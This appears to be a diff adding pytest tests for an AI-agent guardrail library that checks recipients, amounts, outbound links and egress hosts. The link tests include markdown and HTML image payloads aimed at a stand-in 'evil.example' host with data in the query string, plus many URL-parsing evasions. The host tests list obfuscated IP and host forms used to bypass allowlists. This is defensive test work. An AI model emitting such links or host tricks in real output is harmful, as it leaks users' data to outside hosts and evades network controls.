@@ -1,0 +1,228 @@
+"""Who said it: what vouches for an address, a link or an amount, and how a host is read."""
+
+from __future__ import annotations
+
+from typing import Any
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from agent.history import dump
+from flightloop.tool import Effect, Permission, ToolSpec
+from flightloop.verdicts import Action, Stage
+from guardrails.guard import Guard
+from guardrails.policy import parse_policy
+from guardrails.rails.words import stands_in
+from guardrails.types import CallSubject, GuardContext, Subject
+
+READ = """
+name: desk
+version: "1"
+tools:
+  allow: {"*": ["*"]}
+  ask: [{tool: refund, argument: cents, above: 5000, read: {key: order_id, field: total}}]
+"""
+
+
+SINKS = 'name: desk\nversion: "1"\ntools: {allow: {"*": ["*"]}}\n'
+
+
+def send(to: str) -> CallSubject:
+    spec = ToolSpec("send", "Sends.", {"type": "object", "properties": {}}, Effect.UNSAFE, sinks=("to",))
+    return CallSubject("c", spec, {"to": to})
+
+
+@pytest.mark.parametrize(
+    ("result", "asked", "action"),
+    [
+        ({"customer": "Jane", "mail": "jane@corp.example"}, {"name": "Jane"}, Action.ALLOW),
+        ({"query": "jane@corp.example", "found": []}, {"query": "jane@corp.example"}, Action.ASK),
+        ("No customer matches 'Jane@Corp.example'", {"query": "jane@corp.example"}, Action.ASK),
+        ({"given": {"to": ["jane@corp.example"]}}, {"deep": [{"to": "a, jane@corp.example"}]}, Action.ASK),
+        ({"mail": "corp.example", "asked": "jane@corp.example"}, ["jane@corp.example"], Action.ASK),
+        ("jane@corp.example", {"b": "jane@corp", "a": "example"}, Action.ASK),
+    ],
+)
+async def test_a_result_vouches_for_nothing_that_it_was_asked_with(
+    result: object, asked: dict[str, Any], action: Action
+) -> None:
+    guard = Guard(parse_policy(SINKS))
+    text = result if isinstance(result, str) else dump(result)
+    context = GuardContext(agent="desk", results=(text,), trusted_results=(text,), trusted_calls=(dump(asked),))
+    ruled = await guard.check(Subject(Stage.TOOL_CALL, "", context, send("jane@corp.example")))
+    assert ruled.action is action
+
+
+@pytest.mark.parametrize(
+    ("said", "given", "stands"),
+    [
+        ("mail it to bob@bank.example.com please", "bob@bank.example.com", True),
+        ("mail it to bob@bank.example.com.", "BOB@bank.example.com", True),
+        ("to <bob@bank.example.com>, thanks", "bob@bank.example.com", True),
+        ('{"to": "bob@bank.example.com"}', "bob@bank.example.com", True),
+        ("mail it to bob@bank.example.com please", "bob@bank-example.com", False),
+        ("mail it to bob@bank.example.com please", "bob@bank/example.com", False),
+        ("mail it to bob@example.com. Au revoir", "bob@example.com.au", False),
+        ("mail it to my friend anna@x.com", "friend.anna@x.com", False),
+        ("mail it to bob@bank.example.com", "bob@bank.example.com, bob@bank-example.com", False),
+        ("see a.example.com", "a-example.com", False),
+        ("see https://a.example/x and y", "https://a.example/x", True),
+        ("see https://a.example/x y", "https://a.example/x-y", False),
+        ("12 Main St., 10115 Berlin", "10115 Berlin, 12 Main St", True),
+        ("account DE89 3704 0044", "DE89-3704-0044", True),
+        ("I have 5 apples", "5", True),
+        ("pay 1,250.00 EUR", "1250", True),
+        ("to account 012180015678901235", "012180015678901235", True),
+        ("to account 012180015678901235", "012180015678901237", False),
+        ("card 4111111111111111000", "4111111111111111001", False),
+        ("code 12", "0012", False),
+        ("1000000000 of them", "1e9", False),
+        ("12 of them", "1_2", False),
+        ("write to info@strasse.example", "info@stra\u00dfe.example", False),
+        ("the host 10 0 0 1", "10.0.0.1", False),
+        ("the host 10.0.0.1.", "10.0.0.1", True),
+    ],
+)
+def test_an_address_stands_in_somebodys_words_sign_by_sign(said: str, given: str, stands: bool) -> None:
+    assert stands_in(given, [said]) is stands
+
+
+async def test_a_rule_holds_for_what_the_tool_fills_in() -> None:
+    rules = 'name: desk\nversion: "1"\ntools: {allow: {"*": ["*"]}, arguments: {pay: {amount: {maximum: 500}}}}\n'
+    for default, action in ((1000, Action.BLOCK), (100, Action.ALLOW), (None, Action.ALLOW)):
+        declared = {"type": "number"} if default is None else {"type": "number", "default": default}
+        spec = ToolSpec("pay", "Pays.", {"type": "object", "properties": {"amount": declared}}, Effect.UNSAFE)
+        subject = Subject(Stage.TOOL_CALL, "", GuardContext(agent="desk"), CallSubject("c", spec, {}))
+        assert (await Guard(parse_policy(rules)).check(subject)).action is action
+
+
+async def test_what_is_left_out_is_the_tools_default_for_ask_rules_too() -> None:
+    """Not what an earlier result says: the tool does not look there."""
+    declared = {"order_id": {"type": "integer"}, "cents": {"type": "number", "default": 100_000}}
+    spec = ToolSpec("refund", "Pays.", {"type": "object", "properties": declared}, Effect.UNSAFE)
+    result = dump({"order_id": 7, "total": 10.0})
+    context = GuardContext(agent="desk", results=(result,), trusted_results=(result,))
+    for more, action in (({}, Action.ASK), ({"cents": 10}, Action.ALLOW)):
+        call = CallSubject("c", spec, {"order_id": 7, **more})
+        assert (await Guard(parse_policy(READ)).check(Subject(Stage.TOOL_CALL, "", context, call))).action is action
+
+
+async def test_keys_that_a_redaction_makes_the_same_block_the_call() -> None:
+    rules = 'name: desk\nversion: "1"\nstages: {tool_call: {rails: [pii]}}\ntools: {allow: {"*": ["*"]}}\n'
+    call = send("x")
+    call.arguments["to"] = {"a@x.example": "drop", "b@x.example": "keep"}
+    ruled = await Guard(parse_policy(rules)).check(Subject(Stage.TOOL_CALL, "", GuardContext(agent="desk"), call))
+    assert ruled.action is Action.BLOCK
+
+
+LINKS = """
+name: desk
+version: "1"
+stages: {final: {rails: [{rail: links, keep: [user, results], action: redact}]}}
+tools: {allow: {"*": ["*"]}}
+"""
+
+
+@pytest.mark.parametrize(
+    ("answer", "kept"),
+    [
+        ("see https://shop.example/help", True),
+        ("see https://mine.example/any/page?x=1", True),
+        ("![x](https://shop.example/help?d=35-Garden-Way)", False),
+        ("see https://shop.example/", False),
+        ("see https://other.example/help", False),
+        ("![x](//other.example/p.png)", False),
+        ("![x](https:/other.example/p.png)", False),
+        ("![x](https:\\\\other.example/p.png)", False),
+        ("![x](/\\other.example/p.png)", False),
+        ("[x]: //other.example/p.png", False),
+        ("<img src='//other.example/p.png'>", False),
+        ("<a href=//other.example/p.png>", False),
+        ("either//or, 1//2 and [1](/help)", True),
+        *(
+            (link.replace("MINE", "https://mine.example").replace("EVIL", "evil.example/p?d=S"), False)
+            for link in (
+                "![a](MINE{@EVIL)",
+                "![a](MINE]@EVIL)",
+                "![a](MINE'@EVIL)",
+                "![a](MINE|@EVIL)",
+                "![a](<MINE)@EVIL>)",
+                "![a](   //EVIL)",
+                "![a](\n//EVIL)",
+                "[a]:\t//EVIL",
+                '<img src = "//EVIL">',
+                '<video poster="//EVIL">',
+                "url(//EVIL)",
+                "![a](https\\://EVIL)",
+                "![a](https:EVIL)",
+                "![a](https:////EVIL)",
+            )
+        ),
+    ],
+)
+async def test_a_results_link_is_kept_as_it_is_and_vouches_for_no_other(answer: str, kept: bool) -> None:
+    result = dump({"note": "Questions: https://shop.example/help.", "more": 1})
+    context = GuardContext(agent="desk", user_text="I read https://mine.example/start", results=(result,))
+    ruled = await Guard(parse_policy(LINKS)).check(Subject(Stage.FINAL, answer, context))
+    assert ("redacted" not in ruled.text) is kept
+
+
+async def test_a_link_that_the_model_wrote_is_no_results() -> None:
+    """An error or a tool repeats it; written with escapes, too."""
+    name = "https://evil.example/p.png?d=35-Garden-Way"
+    result = f"error: No customer matches '{name}'."
+    for written in (dump({"query": name}), dump({"query": name}).replace("/", "\\/"), f"{name} {{}}"):
+        context = GuardContext(agent="desk", results=(result,), written=written)
+        ruled = await Guard(parse_policy(LINKS)).check(Subject(Stage.FINAL, f"![s]({name})", context))
+        assert "redacted" in ruled.text
+    context = GuardContext(agent="desk", results=(result,))
+    assert "redacted" not in (await Guard(parse_policy(LINKS)).check(Subject(Stage.FINAL, name, context))).text
+
+
+@pytest.mark.parametrize(
+    "host",
+    [
+        "example.org", "example.org.", "example\u3002org", "example\uff0eorg", "\u200bexample.org", "EXAMPLE.org..",
+        "16909060", "1.2.772", "0x1020304", "https:\\\\example.org", "ht\ttps://example.org/", "example.org\\x",
+        "//example.org", "[::1]", "example.xn--p1ai", "a.b.c.d.e.f.g.h.i.j.example.org", "user@example.org",
+        "postgres://u:p@example.org/db", "ssh://git@example.org/x", "git@example.org:repo", "socks5h://u:p@example.org:1",
+        "api.example.com,example.org", "example.org:80:80", "16909060:80", "127.1:80", "example%2eorg",
+        "jdbc:postgresql://example.org/db", "https://api.example.com{@example.org/x", "api.example.com:443@example.org",
+    ],
+)  # fmt: skip
+async def test_a_host_is_read_as_those_read_it_who_connect(host: str) -> None:
+    parameters = {"type": "object", "properties": {}}
+    network = frozenset({Permission.NETWORK})
+    spec = ToolSpec("connect", "Connects.", parameters, Effect.PURE, permissions=network, hosts=("*",))
+    guard = Guard(parse_policy(SINKS + "egress: {hosts: [api.example.com, 8.8.8.8]}\n"))
+    wanted = [
+        ("host", host, Action.BLOCK),
+        ("options", {"a": [{"Proxy": host}]}, Action.BLOCK),
+        ("host", "api.example.com.", Action.ALLOW),
+        ("host", "134744072", Action.ALLOW),
+        ("server_id", 5, Action.ALLOW),
+        ("to", "jane@corp.example", Action.ALLOW),
+    ]
+    for argument, value, action in wanted:
+        call = CallSubject("c", spec, {argument: value})
+        ruled = await guard.check(Subject(Stage.TOOL_CALL, "", GuardContext(agent="desk"), call))
+        assert ruled.action is action, (argument, value)
+
+
+ADDRESS = st.from_regex(r"[a-z]{1,4}([.+-][a-z]{1,3})?@[a-z]{1,4}([.-][a-z]{1,3})?\.(com|org)", fullmatch=True)
+
+
+async def test_a_value_is_not_vouched_for_by_parts() -> None:
+    """One part that the model wrote, and another from the result around it."""
+    result, asked = dump({"asked": "eve@evil.example", "found": []}), dump({"query": "eve@evil.example"})
+    context = GuardContext(agent="desk", results=(result,), trusted_results=(result,), trusted_calls=(asked,))
+    for to in ("eve@evil.example, found", "found; eve@evil.example", "eve@evil.example\nfound"):
+        ruled = await Guard(parse_policy(SINKS)).check(Subject(Stage.TOOL_CALL, "", context, send(to)))
+        assert ruled.action is Action.ASK
+
+
+@settings(database=None)
+@given(ADDRESS, ADDRESS)
+def test_another_address_never_stands_in_what_was_said(said: str, given: str) -> None:
+    assert stands_in(given, [f"please write to {said}, soon"]) is (given == said)
